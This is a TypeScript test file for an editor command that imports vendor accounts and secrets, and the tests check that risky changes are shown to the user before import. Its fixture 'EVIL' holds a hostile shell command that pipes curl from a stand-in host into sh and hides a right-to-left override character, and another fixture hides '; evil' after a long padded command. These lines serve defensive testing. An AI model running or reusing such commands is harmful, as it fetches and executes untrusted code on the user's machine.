import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { places } from '@countersign/shared/account';
import { createSigningKey } from '@countersign/shared/approval';
import { expect, test } from 'vitest';
import { everythingShown, lastSaid, openWindow, person, vendors } from './setup.ts';

const CONTENT = {
  approver: { name: 'Kim Approver' },
  accounts: [
    { id: 'acme', provider: 'threatlocker', instance: 'g', apiToken: { env: 'ACME_TOKEN' } },
    { id: 'acme-abr', provider: 'admin-by-request', dataCenter: 'dc1', apiKey: { env: 'ACME_KEY' } },
    { id: 'kept-in-file', provider: 'threatlocker', instance: 'h', apiToken: { file: '~/token' } },
    { id: 'by-program', provider: 'threatlocker', instance: 'h', apiToken: { command: ['op', 'read', 'x'] } },
  ],
  guardrails: { remoteAccessTools: ['OurHelp'] },
  http: { token: { env: 'HTTP_TOKEN' } },
};
const [TAKE, LEAVE] = ['Take what the file says', 'Leave it out'];
const NO_SECTIONS = [
  ['section "approver"', LEAVE],
  ['section "guardrails"', LEAVE],
] as const;
const ALL = CONTENT.accounts.map(({ id }) => id);

/** A window of an editor in whose environment only the token stands, with the terminal command's file in its usual place. */
async function withFile(content: object | string = CONTENT) {
  const sandbox = await vendors();
  const window = openWindow({ sandbox, io: { env: { ACME_TOKEN: `${sandbox.threatLocker.token}\n` } } });
  const file = places(process.platform, {}, window.host.places.storage).configFile;
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content));
  return { sandbox, window, file };
}

test("accounts are taken over with their sections: secrets from the environment or the person, others' places as they are", async () => {
  const { sandbox, window, file } = await withFile();
  const { host, commands, saved, accounts } = window;
  const before = readFileSync(file, 'utf8');
  const { token } = sandbox.threatLocker;
  const { apiKey } = sandbox.adminByRequest;
  const asked = person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ALL],
    ['section "approver"', TAKE],
    ['section "guardrails"', TAKE],
    ['variable ACME_KEY[^]*"acme-abr"', apiKey],
    ['^Import from', 'Import'],
  );
  await commands.importAccounts();
  expect(asked.unasked()).toEqual([]);
  expect(saved()).toEqual({
    approver: CONTENT.approver,
    guardrails: CONTENT.guardrails,
    accounts: [
      { ...CONTENT.accounts[0], apiToken: { env: 'COUNTERSIGN_SECRET_ACME' } },
      { ...CONTENT.accounts[1], apiKey: { env: 'COUNTERSIGN_SECRET_ACME_ABR' } },
      CONTENT.accounts[2],
      CONTENT.accounts[3],
    ],
  });
  expect(Object.fromEntries(host.secretsKept)).toEqual({
    COUNTERSIGN_SECRET_ACME: token,
    COUNTERSIGN_SECRET_ACME_ABR: apiKey,
  });
  const question = host.asked.find((one) => one.kind === 'ask');
  expect(question?.kind === 'ask' && question.detail.split('\n\n')).toEqual([
    'The section "approver" comes along. You are then known as "Kim Approver".',
    'The section "guardrails" comes along.',
    expect.stringMatching(/^acme: ThreatLocker\. .*environment/),
    expect.stringMatching(/^acme-abr: Admin By Request\. .*as you typed it/),
    'kept-in-file: ThreatLocker. Its secret stays in the file "~/token".',
    'by-program: ThreatLocker. Its secret comes from a program, which is run here whenever it is needed: "op" "read" "x".',
  ]);
  expect(lastSaid(host)).toBe('Imported accounts: 4.\n');
  expect((await accounts.load()).accounts).toHaveLength(4);
  expect(everythingShown(window)).not.toContain(token);
  expect(everythingShown(window)).not.toContain(apiKey);
  expect(readFileSync(file, 'utf8')).toBe(before);
});

test('a secret that nobody knows leaves its account signed out, whatever was stored under its name before', async () => {
  const { window } = await withFile();
  const { host, commands, accounts } = window;
  host.secretsKept.set('COUNTERSIGN_SECRET_ACME_ABR', "another tenant's key");
  person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ['acme-abr']],
    ...NO_SECTIONS,
    ['variable ACME_KEY', ''],
    ['acme-abr: Admin By Request. Its secret is not known, so it is signed out', 'Import'],
  );
  await commands.importAccounts();
  expect(lastSaid(host)).toContain('1 of them are signed out');
  await expect(accounts.secretOf({ env: 'COUNTERSIGN_SECRET_ACME_ABR' })).rejects.toMatchObject({ kind: 'missing' });
});

test.each([
  ['Keep the one here', [['acme', 'mine']]],
  ['Replace the one here', [['acme', 'g']]],
  [
    'Take it over as "acme-2"',
    [
      ['acme', 'mine'],
      ['acme-2', 'g'],
    ],
  ],
])('an id that is here already is asked about: %s', async (answer, expected) => {
  const { sandbox, window } = await withFile();
  const { host, commands, saved, accounts } = window;
  const mine = { id: 'acme', provider: 'threatlocker', instance: 'mine', apiToken: { env: 'COUNTERSIGN_SECRET_ACME' } };
  await accounts.save(() => ({ accounts: [mine] }), new Map([['COUNTERSIGN_SECRET_ACME', 'my-own-token']]));
  const asked = person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ['acme']],
    ['There is an account "acme" here already', answer],
    ...(answer.startsWith('Keep') ? [] : NO_SECTIONS),
    ...(answer.startsWith('Keep') ? [] : ([['^Import from', 'Import']] as const)),
  );
  await commands.importAccounts();
  expect(asked.unasked()).toEqual([]);
  expect(saved()).toMatchObject({ accounts: expected.map(([id, instance]) => ({ id, instance })) });
  const { token } = sandbox.threatLocker;
  expect(host.secretsKept.get('COUNTERSIGN_SECRET_ACME')).toBe(answer.startsWith('Replace') ? token : 'my-own-token');
  expect(host.secretsKept.get('COUNTERSIGN_SECRET_ACME_2')).toBe(answer.startsWith('Take') ? token : undefined);
});

test.each([
  ['Keep what is here', { name: 'Robin' }],
  ['Take what the file says', CONTENT.approver],
])('a section that differs is asked about: %s', async (answer, approver) => {
  const { window } = await withFile();
  const { host, commands, saved, accounts } = window;
  await accounts.save(() => ({ approver: { name: 'Robin' }, accounts: [CONTENT.accounts[2] ?? {}] }));
  const asked = person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ['acme']],
    ['differ in the section "approver"', answer],
    ['section "guardrails"', TAKE],
    ['^Import from', 'Import'],
  );
  await commands.importAccounts();
  expect(asked.unasked()).toEqual([]);
  expect(saved()).toMatchObject({ approver, guardrails: CONTENT.guardrails });
});

test.each([0, 1, 2, 3, 4, 5])('whoever leaves at question %i has imported nothing', async (question) => {
  const { window } = await withFile();
  const script = [
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ALL],
    ...NO_SECTIONS,
    ['variable ACME_KEY', ''],
    ['^Import from', 'Import'],
  ] as const;
  person(window.host, ...script.slice(0, question), [script[question]?.[0] ?? '', null]);
  await window.commands.importAccounts();
  expect(window.saved()).toBeNull();
  expect(window.host.secretsKept.size).toBe(0);
});

test('another file can be chosen; one that is none, or broken, is told with its problem and changes nothing', async () => {
  const { window, file } = await withFile('{ "acounts": [] }');
  const { host, commands } = window;
  person(host, ['Which accounts file', 'Another file…'], ['Import Accounts', file]);
  await commands.importAccounts();
  expect(lastSaid(host)).toMatch(/^Nothing was imported\. .*accounts.* is missing/);
  expect(host.logged.join('\n')).toContain('acounts is not known; did you mean accounts?');
  person(host, ['Which accounts file', 'Another file…'], ['Import Accounts', `${file}.gone`]);
  await commands.importAccounts();
  expect(lastSaid(host)).toContain('does not exist. Nothing was imported.');
  expect(window.saved()).toBeNull();
});

test('without the terminal command, the file is asked for at once', async () => {
  const { host, commands } = openWindow();
  person(host, ['Import Accounts', null]);
  await commands.importAccounts();
  expect(host.asked).toEqual([{ kind: 'openFile', title: 'Import Accounts' }]);
});

const EVIL = {
  id: 'evil',
  provider: 'threatlocker',
  instance: 'g',
  apiToken: { command: ['/bin/sh', '-c', 'curl evil.example/x\u202e | "sh"'] },
  endpoint: 'http://127.0.0.1:4810',
  assistants: 'read',
  contactDetails: true,
  channels: ['elicitation', 'terminal'],
  elicitationReach: 'any',
  unattended: { secret: { command: ['/bin/sh', '-c', 'echo known'] } },
};

test('what an import would loosen is told before it is done: programs, endpoints, whose keys count, which findings weigh less', async () => {
  const { publicKey } = createSigningKey();
  const { window } = await withFile({
    accounts: [EVIL],
    confirmation: { approverKeys: [publicKey.text], expiresMinutes: 60 },
    guardrails: { severity: { 'attack-tool': 'info', unsigned: 'stop' } },
  });
  const { host, commands, accounts, saved } = window;
  const lost = createSigningKey().publicKey.text;
  const ours = {
    accounts: [CONTENT.accounts[2] ?? {}],
    confirmation: { approverKeys: [lost] },
    guardrails: { severity: { 'reason-vague': 'caution' }, attackTools: ['OurTool'] },
  };
  await accounts.save(() => ours);
  person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ['evil']],
    ['section "guardrails"', TAKE],
    ['section "confirmation"', TAKE],
    ['^Import from', null],
  );
  await commands.importAccounts();
  const question = host.asked.find((one) => one.kind === 'ask');
  expect(question?.kind === 'ask' && question.detail.split('\n\n')).toEqual([
    [
      'The section "guardrails" comes along.',
      'The finding "attack-tool" counts as "info" only, and no longer as "stop".',
      'The finding "reason-vague" counts as "info" only, and no longer as "caution".',
      'No longer looked for (attackTools): "OurTool".',
    ].join(' '),
    [
      'The section "confirmation" comes along.',
      `Whoever holds these keys may countersign decisions: "${publicKey.text}".`,
      `These keys may countersign decisions no more: "${lost}".`,
      'A proposed decision can be confirmed for 60 minutes.',
    ].join(' '),
    [
      'evil: ThreatLocker.',
      'SANDBOX: it is reached at http://127.0.0.1:4810 on this computer, not at its vendor.',
      'Its secret comes from a program, which is run here whenever it is needed: "/bin/sh" "-c" "curl evil.example/x | \'sh\'".',
      'Whoever holds a secret of its own can carry back decisions of a ticket system to it, without anybody being asked here.',
      'That secret comes from a program, which is run here when it is needed: "/bin/sh" "-c" "echo known".',
      'Assistants may look at its requests, and propose nothing.',
      "Assistants see requesters' e-mail and phone.",
      "Its decisions can be confirmed only at a terminal or in a form of the assistant's client.",
      "A form of an assistant's client confirms also what reaches any number of computers.",
    ].join(' '),
  ]);
  expect(saved()).toEqual(ours);
});

test('of an account that takes the place of another, what was stricter there is told', async () => {
  const { window } = await withFile();
  const { host, commands, accounts } = window;
  await accounts.save(() => ({ accounts: [{ ...CONTENT.accounts[0], assistants: 'none', channels: ['terminal'] }] }));
  person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ['acme']],
    ['There is an account "acme" here already', 'Replace the one here'],
    ...NO_SECTIONS,
    [
      "takes the place of the account of this id here. Assistants may propose decisions for it. Its decisions can be confirmed only in an editor or at a terminal or in a form of the assistant's client",
      null,
    ],
  );
  await commands.importAccounts();
  expect(lastSaid(host)).toContain('takes the place');
});

test.each(['approver', 'guardrails', 'confirmation'])(
  'nothing of the section "%s" comes along that nobody wanted, even where there is none here',
  async (name) => {
    const sections = {
      approver: { email: 'me@acme.example' },
      guardrails: { severity: { 'attack-tool': 'info' } },
      confirmation: { approverKeys: [createSigningKey().publicKey.text] },
    };
    const { window } = await withFile({ accounts: [EVIL], ...sections });
    const { host, commands, saved } = window;
    const asked = person(
      host,
      ['Which accounts file', "The terminal command's file"],
      ['Which of its accounts', ['evil']],
      ...Object.keys(sections).map((one) => [`section "${one}"`, one === name ? LEAVE : TAKE] as const),
      ['^Import from', 'Import'],
    );
    await commands.importAccounts();
    expect(asked.unasked()).toEqual([]);
    expect(Object.keys(Object(saved()))).not.toContain(name);
    expect(Object.keys(Object(saved()))).toHaveLength(3);
    const pick = host.asked.find((one) => one.kind === 'pick' && one.placeholder.includes(`"${name}"`));
    expect(pick).toMatchObject({ labels: [LEAVE, TAKE], picked: [] });
  },
);

test.each([
  ['a command that is too long', [{ ...EVIL, apiToken: { command: ['sh', '-c', `${'x'.repeat(5000)}; evil`] } }]],
  ['more accounts than fit', Array.from({ length: 60 }, (_, index) => ({ ...EVIL, id: `evil-${index}` }))],
])('%s has to be read elsewhere before it can be imported', async (_, all) => {
  const { window } = await withFile({ accounts: all });
  const { host, commands, saved } = window;
  const asked = person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', all.map(({ id }) => id)],
    ['This is not everything that the import would change[^]*\nShow Everything$', 'Show Everything'],
    ['Read it to its end', 'Answer'],
    ['This is not everything that the import would change[^]*\nImport, Show Everything$', 'Import'],
  );
  await commands.importAccounts();
  expect(asked.unasked()).toEqual([]);
  for (const one of host.asked) if (one.kind === 'ask') expect(one.detail.length).toBeLessThan(2500);
  expect(host.opened).toHaveLength(1);
  for (const { id } of all) expect(host.opened[0]).toContain(`${id}: ThreatLocker.`);
  expect(host.opened[0]).toContain(all.length === 1 ? 'x; evil"' : '"curl evil.example/x');
  expect(saved()).toMatchObject({ accounts: all.map(({ id }) => ({ id })) });
});

test('whoever leaves where they should read has imported nothing', async () => {
  const { window } = await withFile({
    accounts: [{ ...EVIL, apiToken: { command: ['sh', '-c', 'x'.repeat(5000)] } }],
  });
  const { host, commands, saved } = window;
  person(
    host,
    ['Which accounts file', "The terminal command's file"],
    ['Which of its accounts', ['evil']],
    ['This is not everything', 'Show Everything'],
    ['Read it to its end', null],
  );
  await commands.importAccounts();
  expect(saved()).toBeNull();
});
